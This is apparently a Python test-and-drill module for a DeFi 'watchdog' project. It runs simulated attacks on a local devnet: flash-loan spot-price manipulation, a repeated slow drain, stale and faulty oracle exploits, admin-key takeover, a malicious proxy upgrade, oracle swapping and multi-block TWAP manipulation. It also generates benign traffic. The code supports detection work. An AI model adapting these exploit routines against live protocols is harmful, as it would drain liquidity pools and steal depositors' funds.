"""Attacks and benign traffic on the demo world, for tests and drills. Attacks run through the drill attacker
contracts in contracts/src/drill/ and report what they achieved."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from web3 import Web3
from web3.logs import DISCARD

from watchdog.devnet import artifacts
from watchdog.devnet.txs import deploy, revert_data
from watchdog.devnet.world import E18, World


@dataclass
class AttackResult:
    """What one attack transaction did: whether it landed and what the attacker gained (in dUSD wei)."""

    name: str
    tx_hash: str
    succeeded: bool
    attacker_profit: int
    block_number: int
    attacker_contract: str
    pool_before: int
    pool_after: int
    details: dict[str, Any] = field(default_factory=dict)

    @property
    def pool_loss(self) -> int:
        return self.pool_before - self.pool_after


def deploy_flash_loan_attacker(world: World, w3: Web3 | None = None) -> str:
    """The attacker deploys the flash-loan spot-manipulation contract (its own tx, as real attackers do)."""
    w3 = w3 or world.w3
    a = world.addresses
    contract = deploy(w3, world.accounts.attacker, artifacts.project("FlashLoanSpotAttacker"),
                      a["FlashLender"], a["UniswapV2Router02"], a["WETH"], a["dUSD"], a["PerpMarket"])
    return contract.address


def send_flash_loan_spot_attack(world: World, attacker_contract: str, *, borrow_weth: int = 3_000 * E18,
                                margin: int = 100_000 * E18, w3: Web3 | None = None, wait: bool = True,
                                **tx: Any) -> str:
    """Send the attack transaction (optionally without waiting: for pending/mempool scenarios). Returns its hash.

    Gas is fixed so that the transaction can be sent without a successful estimate (it will revert when paused).
    """
    w3 = w3 or world.w3
    attacker = w3.eth.contract(address=attacker_contract, abi=artifacts.project("FlashLoanSpotAttacker").abi)
    tx_hash = attacker.functions.attack(borrow_weth, margin).transact(
        {"from": world.accounts.attacker.address, "gas": 3_000_000, **tx})
    if wait:
        w3.eth.wait_for_transaction_receipt(tx_hash, timeout=60)
    return tx_hash.to_0x_hex()


def flash_loan_spot_attack(world: World, w3: Web3 | None = None, *, borrow_weth: int = 3_000 * E18,
                           margin: int = 100_000 * E18) -> AttackResult:
    """The flagship exploit: in one transaction, flash-borrow WETH, crash the AMM spot price, open a 10x long,
    restore the price, close at a profit paid by the liquidity pool, repay. Profitable while the oracle adapter
    reads spot and the protocol is not paused; reverts (no profit) once it is paused."""
    w3 = w3 or world.w3
    usd = world.contract("dUSD", w3)
    vault = world.contract("CollateralVault", w3)
    attacker = world.accounts.attacker.address
    contract = deploy_flash_loan_attacker(world, w3)
    usd_before = usd.functions.balanceOf(attacker).call()
    pool_before = vault.functions.poolAssets().call()
    tx_hash = send_flash_loan_spot_attack(world, contract, borrow_weth=borrow_weth, margin=margin, w3=w3)
    receipt = w3.eth.get_transaction_receipt(tx_hash)
    return AttackResult(
        name="flash-loan-spot",
        tx_hash=tx_hash,
        succeeded=receipt["status"] == 1,
        attacker_profit=usd.functions.balanceOf(attacker).call() - usd_before,
        block_number=receipt["blockNumber"],
        attacker_contract=contract,
        pool_before=pool_before,
        pool_after=vault.functions.poolAssets().call(),
        details={"borrow_weth": borrow_weth, "margin": margin},
    )


# --- building blocks shared by the multi-step scenarios and benign traffic ---

def warp(world: World, seconds: int, w3: Web3 | None = None) -> None:
    """Let `seconds` pass and mine one block (dev node methods)."""
    w3 = w3 or world.w3
    w3.provider.make_request("evm_increaseTime", [seconds])
    w3.provider.make_request("evm_mine", [])


def swap(world: World, who: str, token_in: str, amount: int, *, venue: str = "UniswapV2Router02",
         w3: Web3 | None = None) -> str:
    """`who` swaps `amount` of "WETH" or "dUSD" for the other token on a venue's router (wrapping ETH as needed)."""
    w3 = w3 or world.w3
    sender = world.accounts[who]
    token_out = "dUSD" if token_in == "WETH" else "WETH"
    token, router = world.contract(token_in, w3), world.contract(venue, w3)
    if token_in == "WETH":
        held = token.functions.balanceOf(sender.address).call()
        if held < amount:
            world.send(token.functions.deposit(), sender, value=amount - held)
    world.send(token.functions.approve(router.address, amount), sender)
    path = [world.addresses[token_in], world.addresses[token_out]]
    receipt = world.send(router.functions.swapExactTokensForTokens(amount, 0, path, sender.address, 2**40), sender)
    return receipt["transactionHash"].to_0x_hex()


def spot_price(world: World, pair: str = "WETH-dUSD") -> int:
    """WETH price in dUSD (18 decimals) at a pair's reserves."""
    contract = world.contract(pair)
    r0, r1, _ = contract.functions.getReserves().call()
    return r1 * E18 // r0 if contract.functions.token0().call() == world.addresses["WETH"] else r0 * E18 // r1


def push_feed(world: World, price: int | None = None) -> str:
    """The keeper publishes `price` (default: the main pair's spot price) to the Chainlink-style feed."""
    answer = (price if price is not None else spot_price(world)) // 10**10
    receipt = world.send(world.contract("ETH-USD-Feed").functions.updateAnswer(answer), "keeper")
    return receipt["transactionHash"].to_0x_hex()


def update_twap(world: World) -> str | None:
    """The keeper pokes the TWAP; the tx hash when a window closed (an `Updated` event), None when not due yet."""
    twap = world.contract("TwapOracle")
    receipt = world.send(twap.functions.update(), "keeper")
    return receipt["transactionHash"].to_0x_hex() if twap.events.Updated().process_receipt(receipt, errors=DISCARD) else None


def _usd_of(world: World, address: str) -> int:
    return world.contract("dUSD").functions.balanceOf(address).call()


def _pool(world: World) -> int:
    return world.contract("CollateralVault").functions.poolAssets().call()


def _result(world: World, name: str, tx_hash: str, contract: str, usd_before: int, pool_before: int,
            **details: Any) -> AttackResult:
    receipt = world.w3.eth.get_transaction_receipt(tx_hash)
    return AttackResult(name, tx_hash, receipt["status"] == 1, _usd_of(world, world.accounts.attacker.address) - usd_before,
                        receipt["blockNumber"], contract, pool_before, _pool(world), details)


def _try_send(world: World, call: Any, sender: str) -> str:
    """Send a call with fixed gas (no estimate), so that a paused protocol yields a mined, reverted transaction."""
    tx_hash = call.transact({"from": world.accounts[sender].address, "gas": 2_000_000})
    world.w3.eth.wait_for_transaction_receipt(tx_hash, timeout=60)
    return tx_hash.to_0x_hex()


def _buy_usd(world: World, who: str, weth: int) -> int:
    """`who` buys dUSD with `weth` worth of ETH on the second venue (so the main pair's price is untouched)."""
    before = _usd_of(world, world.accounts[who].address)
    swap(world, who, "WETH", weth, venue="AltSwapRouter")
    return _usd_of(world, world.accounts[who].address) - before


# --- attacks ---

def slow_drain(world: World, rounds: int = 4, borrow_weth: int = 400 * E18, margin: int = 20_000 * E18) -> list[AttackResult]:
    """The flash-loan spot attack repeated with small amounts, one block apart: each round takes a slice."""
    contract = deploy_flash_loan_attacker(world)
    results = []
    for _ in range(rounds):
        usd_before, pool_before = _usd_of(world, world.accounts.attacker.address), _pool(world)
        tx_hash = send_flash_loan_spot_attack(world, contract, borrow_weth=borrow_weth, margin=margin)
        results.append(_result(world, "slow-drain", tx_hash, contract, usd_before, pool_before,
                               borrow_weth=borrow_weth, margin=margin))
    return results


def stale_oracle_attack(world: World, *, move_pct: int = 20, stale_for: int = 2 * 3600) -> AttackResult:
    """Governance prices through the feed (with no staleness bound); the keeper stops; the market rallies
    `move_pct`; the attacker opens a long at the stale price, the feed catches up, the attacker closes."""
    attacker = world.accounts.attacker
    world.set_oracle_source("feed")
    contract = deploy(world.w3, attacker, artifacts.project("StaleOracleAttacker"), world.addresses["dUSD"],
                      world.addresses["PerpMarket"])
    margin = _buy_usd(world, "attacker", 20 * E18) // 2
    usd_before, pool_before = _usd_of(world, attacker.address), _pool(world)
    stale = world.contract("OracleAdapter").functions.price().call()
    _push_price_up(world, move_pct)  # the real market moves; the feed does not
    warp(world, stale_for)
    size = margin * 10 * E18 // stale * 99 // 100
    world.send(world.contract("dUSD").functions.approve(contract.address, margin), attacker)
    open_tx = _try_send(world, contract.functions.open(size, margin), "attacker")
    update_tx = push_feed(world)
    close_tx = _try_send(world, contract.functions.close(), "attacker")
    return _result(world, "stale-oracle", close_tx, contract.address, usd_before, pool_before,
                   open_tx=open_tx, feed_update_tx=update_tx, stale_price=stale, size=size, margin=margin)


def _push_price_up(world: World, pct: int) -> None:
    """A trader buys WETH on the main pair until its price is about `pct` percent higher."""
    r_weth = world.contract("WETH").functions.balanceOf(world.addresses["WETH-dUSD"]).call()
    r_usd = world.contract("dUSD").functions.balanceOf(world.addresses["WETH-dUSD"]).call()
    # constant product: price' / price = (x / x')^2, so x' = x / sqrt(1 + pct)
    target_weth = int(r_weth / ((1 + pct / 100) ** 0.5))
    usd_in = r_usd * r_weth // target_weth - r_usd
    world.send(world.contract("dUSD").functions.mint(world.accounts.trader2.address, usd_in * 2), "deployer")
    swap(world, "trader2", "dUSD", usd_in * 1003 // 1000)


def oracle_divergence_attack(world: World, *, drop_pct: int = 30) -> AttackResult:
    """The market prices through the feed; a faulty (or compromised) feed update publishes a price `drop_pct`
    below the AMM's; the attacker opens a long at the wrong price and closes once the feed is corrected."""
    attacker = world.accounts.attacker
    world.set_oracle_source("feed")
    vault, market = world.contract("CollateralVault"), world.contract("PerpMarket")
    margin = _buy_usd(world, "attacker", 20 * E18) // 2
    usd_before, pool_before = _usd_of(world, attacker.address), _pool(world)
    fair = spot_price(world)
    wrong = fair * (100 - drop_pct) // 100
    bad_update = push_feed(world, wrong)
    world.send(world.contract("dUSD").functions.approve(vault.address, margin), attacker)
    _try_send(world, vault.functions.deposit(margin), "attacker")
    open_tx = _try_send(world, market.functions.openPosition(margin * 10 * E18 // wrong * 99 // 100, margin), "attacker")
    fix_update = push_feed(world, fair)
    close_tx = _try_send(world, market.functions.closePosition(), "attacker")
    free = vault.functions.balanceOf(attacker.address).call()
    if free:
        _try_send(world, vault.functions.withdraw(free), "attacker")
    return _result(world, "oracle-divergence", close_tx, "", usd_before, pool_before, bad_update_tx=bad_update,
                   open_tx=open_tx, fix_update_tx=fix_update, fair_price=fair, feed_price=wrong)


def admin_key_drain(world: World) -> AttackResult:
    """Two Safe owner keys are compromised: the Safe hands the vault to the attacker's contract, which drains
    the liquidity pool. The ownership change is the precursor a watchdog can act on."""
    attacker = world.accounts.attacker
    contract = deploy(world.w3, attacker, artifacts.project("AdminKeyDrainer"))
    usd_before, pool_before = _usd_of(world, attacker.address), _pool(world)
    takeover = world.governance_call("CollateralVault", "transferOwnership", contract.address)
    drain_tx = _try_send(world, contract.functions.drain(world.addresses["CollateralVault"]), "attacker")
    return _result(world, "admin-key", drain_tx, contract.address, usd_before, pool_before,
                   takeover_tx=takeover["transactionHash"].to_0x_hex())


def malicious_upgrade(world: World) -> AttackResult:
    """Compromised governance upgrades the oracle adapter's proxy to the attacker's implementation (an ERC-1967
    `Upgraded` event); the attacker then opens a long at a fake low price and closes at a fake high one."""
    attacker = world.accounts.attacker
    adapter = world.contract("OracleAdapter")
    price = adapter.functions.price().call()
    impl = deploy(world.w3, attacker, artifacts.project("MaliciousAdapterImplementation"), attacker.address)
    margin = _buy_usd(world, "attacker", 20 * E18) // 2
    usd_before, pool_before = _usd_of(world, attacker.address), _pool(world)
    upgrade = world.governance_call("OracleAdapter", "upgradeToAndCall", impl.address, b"")
    fake = world.w3.eth.contract(address=adapter.address, abi=impl.abi)
    return _trade_on_fake_price(world, "malicious-upgrade", fake, price, margin, usd_before, pool_before,
                                impl.address, upgrade_tx=upgrade["transactionHash"].to_0x_hex())


def malicious_oracle_swap(world: World) -> AttackResult:
    """Compromised governance points the market at the attacker's price source (`setOracle`); the attacker opens
    a long at a fake low price and closes at a fake high one."""
    attacker = world.accounts.attacker
    price = world.contract("OracleAdapter").functions.price().call()
    fake = deploy(world.w3, attacker, artifacts.project("MaliciousPriceOracle"), price)
    margin = _buy_usd(world, "attacker", 20 * E18) // 2
    usd_before, pool_before = _usd_of(world, attacker.address), _pool(world)
    swap_tx = world.governance_call("PerpMarket", "setOracle", fake.address)
    return _trade_on_fake_price(world, "oracle-swap", fake, price, margin, usd_before, pool_before, fake.address,
                                oracle_swap_tx=swap_tx["transactionHash"].to_0x_hex())


def _trade_on_fake_price(world: World, name: str, fake: Any, price: int, margin: int, usd_before: int,
                         pool_before: int, contract: str, **details: Any) -> AttackResult:
    """With a price the attacker controls: open a 10x long at a tenth of `price`, close at ten times it."""
    attacker = world.accounts.attacker
    vault, market = world.contract("CollateralVault"), world.contract("PerpMarket")
    world.send(fake.functions.setFakePrice(price // 10), attacker)
    world.send(world.contract("dUSD").functions.approve(vault.address, margin), attacker)
    _try_send(world, vault.functions.deposit(margin), "attacker")
    open_tx = _try_send(world, market.functions.openPosition(margin * 10 * E18 // (price // 10) * 99 // 100, margin), "attacker")
    world.send(fake.functions.setFakePrice(price * 10), attacker)
    close_tx = _try_send(world, market.functions.closePosition(), "attacker")
    free = vault.functions.balanceOf(attacker.address).call()
    if free:
        _try_send(world, vault.functions.withdraw(free), "attacker")
    return _result(world, name, close_tx, contract, usd_before, pool_before, open_tx=open_tx, **details)


def twap_multiblock_attack(world: World, dump_weth: int = 1_500 * E18) -> AttackResult:
    """Against the hardened TWAP configuration: the attacker holds the spot price down for a whole TWAP window
    (several blocks), opens a long at the depressed TWAP, restores the price, waits a window, and closes."""
    attacker = world.accounts.attacker
    world.set_oracle_source("twap")
    period = world.contract("TwapOracle").functions.period().call()
    vault, market = world.contract("CollateralVault"), world.contract("PerpMarket")
    usd_before, pool_before = _usd_of(world, attacker.address), _pool(world)
    eth_before = world.w3.eth.get_balance(attacker.address)
    dump_tx = swap(world, "attacker", "WETH", dump_weth)
    proceeds = _usd_of(world, attacker.address) - usd_before
    update_twap(world)  # closes the pre-dump window
    for _ in range(3):
        warp(world, period // 3 + 1)
    update_twap(world)
    low = world.contract("OracleAdapter").functions.price().call()
    margin = 100_000 * E18
    world.send(world.contract("dUSD").functions.approve(vault.address, margin), attacker)
    _try_send(world, vault.functions.deposit(margin), "attacker")
    open_tx = _try_send(world, market.functions.openPosition(margin * 10 * E18 // low * 99 // 100, margin), "attacker")
    swap(world, "attacker", "dUSD", proceeds - margin)  # buy the WETH back: the spot price recovers
    for _ in range(3):
        warp(world, period // 3 + 1)
    update_twap(world)
    close_tx = _try_send(world, market.functions.closePosition(), "attacker")
    free = vault.functions.balanceOf(attacker.address).call()
    if free:
        _try_send(world, vault.functions.withdraw(free), "attacker")
    # the attacker ends with less WETH (fees, slippage): count that loss at the final spot price
    weth = world.contract("WETH")
    weth_held = weth.functions.balanceOf(attacker.address).call()
    eth_spent = eth_before - world.w3.eth.get_balance(attacker.address) - weth_held  # ETH wrapped and not recovered
    result = _result(world, "twap-multiblock", close_tx, "", usd_before, pool_before,
                     dump_tx=dump_tx, open_tx=open_tx, twap_low=low, eth_spent=eth_spent)
    result.attacker_profit -= eth_spent * spot_price(world) // E18
    return result


# --- benign traffic ---

@dataclass
class TrafficResult:
    """What benign traffic did: its transactions by kind."""

    txs: dict[str, list[str]] = field(default_factory=dict)

    def add(self, kind: str, tx_hash: str) -> None:
        self.txs.setdefault(kind, []).append(tx_hash)

    def count(self, kind: str) -> int:
        return len(self.txs.get(kind, []))


def flash_swap_arbitrage(world: World, result: TrafficResult | None = None) -> str | None:
    """The keeper's bot flash-swaps WETH from the cheaper venue and sells it on the dearer one (a legitimate
    flash swap). Returns the tx hash, or None when the venues are too close to arbitrage."""
    result = result or TrafficResult()
    main, alt = spot_price(world, "WETH-dUSD"), spot_price(world, "WETH-dUSD-AltSwap")
    cheap, dear = ("WETH-dUSD", "WETH-dUSD-AltSwap") if main < alt else ("WETH-dUSD-AltSwap", "WETH-dUSD")
    gap = abs(main - alt) * 10_000 // min(main, alt)
    if gap < 100:  # under 1%: fees eat the spread
        return None
    bot = _arbitrageur(world)
    reserve = world.contract("WETH").functions.balanceOf(world.addresses[dear]).call()
    amount = reserve * gap // 10_000 // 5  # a fraction of the gap: safely profitable
    call = bot.functions.arbitrage(world.addresses[cheap], world.addresses[dear], world.addresses["WETH"], amount)
    if revert_data(call, world.accounts.keeper) is not None:
        return None
    tx_hash = world.send(call, "keeper")["transactionHash"].to_0x_hex()
    result.add("flash_swap_arbitrage", tx_hash)
    return tx_hash


def _arbitrageur(world: World) -> Any:
    """The keeper's arbitrage bot, deployed on first use (again after a snapshot revert removed it)."""
    artifact = artifacts.project("FlashSwapArbitrageur")
    address = world.helpers.get("FlashSwapArbitrageur")
    if not address or not world.w3.eth.get_code(address):
        address = deploy(world.w3, world.accounts.keeper, artifact).address
        world.helpers["FlashSwapArbitrageur"] = address
    return world.w3.eth.contract(address=address, abi=artifact.abi)


def benign_traffic(world: World, rounds: int = 10, *, volatile: bool = False, seed: int = 7) -> TrafficResult:
    """Honest activity: swaps both ways on both venues, the keeper's feed and TWAP updates, traders opening and
    closing positions, flash-swap arbitrage between the venues, and (volatile) a sell-off with a liquidation.
    Every transaction succeeds; none is an attack."""
    import random

    rng = random.Random(seed)
    result = TrafficResult()
    market = world.contract("PerpMarket")
    for i in range(rounds):
        trader = world.accounts.traders[i % 2].name
        if rng.random() < 0.5:
            result.add("swap", swap(world, trader, "WETH", rng.randint(1, 8) * E18))
        else:
            result.add("swap", swap(world, trader, "dUSD", rng.randint(3_000, 20_000) * E18))
        if market.functions.positionOf(world.accounts[trader].address).call()[0] == 0:
            size = rng.choice([1, -1]) * rng.randint(1, 5) * E18
            result.add("open", world.send(market.functions.openPosition(size, 5_000 * E18), trader)["transactionHash"].to_0x_hex())
        else:
            result.add("close", world.send(market.functions.closePosition(), trader)["transactionHash"].to_0x_hex())
        warp(world, 60)
        result.add("feed", push_feed(world))
        twap_tx = update_twap(world)
        if twap_tx:
            result.add("twap", twap_tx)
        flash_swap_arbitrage(world, result)
    if volatile:
        _volatile_selloff(world, result)
    return result


def _volatile_selloff(world: World, result: TrafficResult) -> None:
    """A real sell-off: a levered long, ~12% lower prices over a few blocks (the feed follows), a liquidation."""
    market = world.contract("PerpMarket")
    lp = world.accounts.lp
    vault = world.contract("CollateralVault")
    world.send(world.contract("dUSD").functions.mint(lp.address, 20_000 * E18), "deployer")
    world.send(world.contract("dUSD").functions.approve(vault.address, 20_000 * E18), lp)
    world.send(vault.functions.deposit(20_000 * E18), lp)
    price = world.contract("OracleAdapter").functions.price().call()
    world.send(market.functions.openPosition(20_000 * E18 * 9 * E18 // price, 20_000 * E18), lp)
    for _ in range(4):
        result.add("swap", swap(world, "trader1", "WETH", 25 * E18))
        warp(world, 60)
        result.add("feed", push_feed(world))
        flash_swap_arbitrage(world, result)
    if market.functions.isLiquidatable(lp.address).call():
        result.add("liquidation", world.send(market.functions.liquidate(lp.address), "keeper")["transactionHash"].to_0x_hex())
